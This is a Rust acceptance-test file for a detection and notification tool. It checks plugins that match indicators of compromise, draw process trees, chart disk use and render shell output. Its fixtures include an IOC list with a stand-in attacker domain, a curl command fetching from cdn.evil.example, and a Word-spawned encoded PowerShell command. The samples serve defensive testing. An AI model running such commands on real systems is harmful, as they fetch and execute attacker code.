//! The stock plugins as a site uses them, and the authors' way from a new project to a mail with its note.

use std::path::PathBuf;

use acceptance::event::{event, lines};
use acceptance::mail::{Mail, read};
use acceptance::site::RULE;
use acceptance::{Site, TestEnv};
use serde_json::{Value, json};

/// A stock plugin, built by `cargo xtask plugins`.
fn stock(name: &str) -> PathBuf {
    let folder = std::env::var_os("BEWIT_PLUGINS")
        .map_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/plugins"), PathBuf::from);
    let path = folder.join(format!("{name}.wasm"));
    assert!(path.is_file(), "{} is missing: cargo xtask plugins", path.display());
    path
}

/// A configuration section of a stock plugin.
fn section(name: &str, more: &str) -> String {
    format!("\n[plugins.{name}]\npath = \"{}\"\n{more}", stock(name).display())
}

/// [`event`] 1 with other results.
fn with_results(results: Value) -> Value {
    let mut event = event(1);
    event["Flow"]["artifacts_with_results"] = results.as_object().unwrap().keys().cloned().collect();
    event["results"] = results;
    event
}

/// The mail about an event, rendered.
fn rendered(env: &TestEnv, event: &Value) -> Mail {
    env.write("event.jsonl", lines(std::slice::from_ref(event)));
    env.bewit(["render", "--out", "out", "event.jsonl"]).limit(180.0).run().expect(0);
    let mut mails = read(&acceptance::env::files(&env.path("out"), "eml"));
    assert_eq!(mails.len(), 1);
    let mail = mails.remove(0);
    mail.assert_sound();
    mail
}

/// The decision of the only rule.
fn explained(env: &TestEnv, event: &Value) -> Value {
    env.write("event.jsonl", lines(std::slice::from_ref(event)));
    env.bewit(["explain", "--json", "event.jsonl"]).limit(180.0).run().expect(0).json().remove(0)
}

fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn ioc_match_notifies_only_of_listed_indicators() {
    let env = TestEnv::new();
    env.write("iocs.txt", "# of the last case\n203.0.113.0/24\nevil[.]example\n");
    env.config(
        &Site::mailbox()
            .more(&section("ioc-match", "files = { list = \"iocs.txt\" }"))
            .rule(&format!("{RULE}filters = [\"ioc-match\"]\n")),
    );
    let clean = explained(&env, &event(1));
    assert_eq!(clean["decision"], "skip", "{clean}");
    assert!(clean["reason"].as_str().unwrap().starts_with("ioc-match: "), "{clean}");

    let hit = with_results(json!({"Custom.Windows.Pslist": [
        {"Name": "a.exe", "CommandLine": "ok"},
        {"Name": "b.exe", "CommandLine": "curl http://cdn.evil.example/x 203.0.113.9"},
    ]}));
    let decision = explained(&env, &hit);
    assert_eq!(decision["decision"], "notify", "{decision}");
    let notes = decision["notes"].to_string();
    assert!(notes.contains("evil.example") && notes.contains("203.0.113.0/24") && notes.contains("row 2"), "{notes}");
    let mail = rendered(&env, &hit);
    assert!(flat(mail.text()).contains("203.0.113.0/24") && mail.html().unwrap().contains("203.0.113.0/24"));

    // The list is saved anew, and what was clean is not.
    env.write("iocs.txt", "svchost.exe.example\n203.0.113.0/24\n");
    assert_eq!(explained(&env, &event(1))["decision"], "skip");
}

#[test]
fn wrong_settings_are_seen_by_check_at_their_key() {
    let env = TestEnv::new();
    env.config(
        &Site::mailbox()
            .more(&section("ioc-match", "settings = { list = [\"203.0.113.7\"], on_mis = \"drop\" }"))
            .rule(&format!("{RULE}filters = [\"ioc-match\"]\n")),
    );
    let said = env.bewit(["check"]).run().expect(2).err();
    assert!(said.contains("did you mean `on_miss`?") && said.contains("bewit.toml:"), "{said}");
    // The caret stands under the key.
    assert!(said.lines().any(|line| line.trim_end().ends_with("^^^^^^")), "{said}");
}

#[test]
fn process_tree_shows_who_started_whom() {
    let env = TestEnv::new();
    env.config(
        &Site::mailbox()
            .more(&section("process-tree", ""))
            .rule(&format!("{RULE}renderers = [{{ source = \"Pslist\", plugin = \"process-tree\" }}]\n")),
    );
    let mail = rendered(
        &env,
        &with_results(json!({"Custom.Windows.Pslist": [
            {"Pid": 4, "Ppid": 0, "Name": "System"},
            {"Pid": 700, "Ppid": 600, "Name": "winword.exe", "CommandLine": "winword.exe /n report.docm"},
            {"Pid": 600, "Ppid": 4, "Name": "explorer.exe"},
            {"Pid": 812, "Ppid": 700, "Name": "powershell.exe", "CommandLine": "powershell -enc SQBFAFgA"},
        ]})),
    );
    // What comes after the results names some of it again.
    let text = mail.text().split("FLOW DETAILS").next().unwrap();
    // The remark above the tree does, too.
    let place = |name: &str| text.rfind(name).unwrap_or_else(|| panic!("{name} is not in\n{text}"));
    assert!(place("System") < place("explorer.exe") && place("explorer.exe") < place("winword.exe"));
    assert!(place("winword.exe") < place("powershell") && text.contains('└'), "{text}");
    assert!(mail.html().unwrap().contains('└'));
    // Word that starts PowerShell is worth a look, and that is said in words.
    assert!(flat(text).to_lowercase().contains("look"), "{text}");
}

#[test]
fn chart_draws_bars_and_a_picture_with_alternative_text() {
    let env = TestEnv::new();
    env.config(
        &Site::mailbox()
            .more(&section("chart", ""))
            .rule(&format!("{RULE}renderers = [{{ source = \"DiskSpace\", plugin = \"chart\" }}]\n")),
    );
    let mail = rendered(
        &env,
        &with_results(json!({"Custom.Linux.DiskSpace": [
            {"Filesystem": "/dev/sda1", "Size": "468G", "Use%": "97%"},
            {"Filesystem": "tmpfs", "Size": "16G", "Use%": "1%"},
        ]})),
    );
    assert!(mail.text().contains("/dev/sda1") && mail.text().contains("97%"), "{}", mail.text());
    let html = mail.html().unwrap();
    let cid = html.split("src=\"cid:").nth(1).unwrap().split('"').next().unwrap();
    let raw = String::from_utf8_lossy(&mail.raw);
    assert!(raw.contains(&format!("Content-ID: <{cid}>")), "{cid}");
    let picture = mail.parts.iter().find(|part| part.kind == "image/png").unwrap();
    assert!(picture.size > 200, "{}", picture.size);
    let alternative = html.split("alt=\"").nth(1).unwrap().split('"').next().unwrap();
    assert!(alternative.contains("97%"), "{alternative}");
    assert!(mail.attachments().is_empty(), "a picture in the text is no attachment");
}

#[test]
fn shell_output_looks_as_it_looked() {
    let env = TestEnv::new();
    env.config(
        &Site::mailbox()
            .more(&section("shell-output", ""))
            .rule(&format!("{RULE}renderers = [{{ source = \"Shell\", plugin = \"shell-output\" }}]\n")),
    );
    let mail = rendered(
        &env,
        &with_results(json!({"Linux.Sys.BashShell": [
            {"Stdout": "\u{1b}[32mPASS\u{1b}[0m  one\n10%\r100%\n", "Stderr": "warning: <b>late</b>\n", "ReturnCode": 3},
        ]})),
    );
    let text = mail.text();
    assert!(text.contains("PASS  one") && text.contains("100%") && !text.contains("[32m"), "{text}");
    assert!(!text.contains("10%\n"), "what was overwritten is gone: {text}");
    assert!(flat(text).contains("Return code 3") && text.contains("warning: <b>late</b>"), "{text}");
    assert!(mail.html().unwrap().contains("&lt;b&gt;late"));
}

#[test]
fn allow_list_is_silent_about_what_is_known() {
    let env = TestEnv::new();
    env.write("known.csv", "Name\nsvchost.exe\nsmss.exe\n");
    env.config(
        &Site::mailbox()
            .more(&section("allow-list", "files = { known = \"known.csv\" }"))
            .rule(&format!("{RULE}filters = [\"allow-list\"]\n")),
    );
    assert_eq!(explained(&env, &event(1))["decision"], "skip");
    let unknown = with_results(json!({"Custom.Windows.Pslist": [{"Name": "svchost.exe"}, {"Name": "odd.exe"}]}));
    let decision = explained(&env, &unknown);
    assert_eq!(decision["decision"], "notify");
    let notes = decision["notes"].to_string();
    assert!(notes.contains("odd.exe") && !notes.contains("svchost.exe"), "{notes}");
}

#[test]
fn expression_is_a_rule_in_one_line() {
    let env = TestEnv::new();
    let settings =
        r#"settings = { keep_if = "flow.rows > 1 && 'workstation' in client.labels", note = "'from ' + client.host" }"#;
    env.config(
        &Site::mailbox().more(&section("expression", settings)).rule(&format!("{RULE}filters = [\"expression\"]\n")),
    );
    let decision = explained(&env, &event(1));
    assert_eq!(decision["notes"][0]["text"], "from ws-17.example.org", "{decision}");
    let mut other = event(2);
    other["client_info"]["labels"] = json!(["server"]);
    assert_eq!(explained(&env, &other)["decision"], "skip");
}

/// `plugin new`, `build`, `test`, `check`, `inspect`, then a mail with its note: six commands.
fn from_new_to_mail(language: &str) {
    let env = TestEnv::new();
    env.bewit(["plugin", "new", "vip", "--lang", language, "--kind", "filter"]).run().expect(0);
    let built = env.bewit(["plugin", "build", "vip"]).limit(900.0).run().expect(0).out();
    assert!(built.contains("filter-plugin"), "{built}");
    let tested = env.bewit(["plugin", "test", "vip"]).limit(180.0).run().expect(0).out();
    assert!(tested.contains("ok  ") && !tested.contains("FAILED"), "{tested}");
    env.bewit(["plugin", "check", "vip", "--settings", "label=workstation"]).limit(180.0).run().expect(0);
    let seen = env.bewit(["plugin", "inspect", "--json", "vip"]).limit(180.0).run().expect(0).json().remove(0);
    assert_eq!(seen["worlds"], json!(["filter-plugin"]), "{seen}");
    assert_eq!(seen["not_granted"], json!([]), "{seen}");
    env.config(
        &Site::mailbox()
            .more("\n[plugins.vip]\npath = \"vip/vip.wasm\"\nsettings = { label = \"workstation\" }")
            .rule(&format!("{RULE}filters = [\"vip\"]\n")),
    );
    env.drop_events("1.jsonl", &[event(1)]);
    env.bewit(["run", "--once"]).limit(180.0).run().expect(0);
    let mails = env.mails();
    assert_eq!(mails.len(), 1);
    mails[0].assert_sound();
    let decision = explained(&env, &event(1));
    let note = decision["notes"][0]["text"].as_str().unwrap_or_else(|| panic!("no note: {decision}")).to_owned();
    assert!(flat(mails[0].text()).contains(&flat(&note)), "{note} is not in\n{}", mails[0].text());
    assert!(mails[0].html().unwrap().contains("workstation"));
}

#[test]
fn from_a_new_project_to_a_mail_in_rust() {
    from_new_to_mail("rust");
}

#[test]
fn from_a_new_project_to_a_mail_in_javascript() {
    from_new_to_mail("js");
}

#[test]
fn from_a_new_project_to_a_mail_in_python() {
    from_new_to_mail("python");
}

#[test]
fn stock_plugins_pass_their_own_tests() {
    let env = TestEnv::new();
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../plugins");
    for name in ["shell-output", "allow-list"] {
        let (folder, component) = (root.join(name), stock(name));
        let arguments = ["plugin", "test", folder.to_str().unwrap(), "--component", component.to_str().unwrap()];
        let said = env.bewit(arguments).limit(180.0).run().expect(0).out();
        assert!(!said.contains("FAILED") && said.contains(" passed"), "{said}");
    }
}
